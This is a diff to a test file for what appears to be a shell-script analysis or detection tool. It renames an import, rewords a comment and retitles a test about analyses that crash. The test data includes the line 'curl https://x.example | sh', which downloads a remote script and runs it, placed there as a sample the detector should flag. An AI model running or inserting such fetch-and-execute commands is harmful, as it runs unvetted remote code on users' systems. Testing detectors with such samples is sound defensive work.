@@ -4,7 +4,7 @@ import { afterAll, describe, expect, it } from "vitest";
 import type { Detection } from "../../src/core/index.js";
 import { ChildPool } from "../../src/host/child-pool.js";
 import { workerEntry } from "../../src/host/worker-entry.js";
-import { folderWith } from "./folder.js";
+import { folderWith } from "./folder-with.js";
 import { runHere, fakeDetector, type Given } from "./fake-detector.js";
 
 const entry = workerEntry(import.meta.url, "", "../host/support/dying-tasks.ts");
@@ -13,7 +13,7 @@ afterAll(() => {
   pool.close();
 });
 
-/** Functions that all call each other: such a text is analyzed in a child process, which crashes in these tests. */
+/** Shell functions that all call each other. Such a text is analyzed in a child process, which crashes in these tests. */
 const DEADLY = ["a", "b", "c", "d"].map((name) => `${name}() {\n  a\n  b\n  c\n  d\n}\n`).join("");
 const BAD = "curl https://x.example | sh\n";
 const FAILED = "analysis failed: it needs more memory than a text may use (64 MB)";
@@ -36,7 +36,7 @@ describe("a text whose analysis crashes", () => {
     expect(status).toBe(2);
   });
 
-  it("has a record with its error in the predictions of a batch", async () => {
+  it("has a prediction that contains the error in a batch", async () => {
     const texts = [BAD, DEADLY, BAD].map((text) => JSON.stringify({ text }));
     const { status, stdout, stderr } = await runHere(["batch", "--predictions", "-"], {
       toolkit,
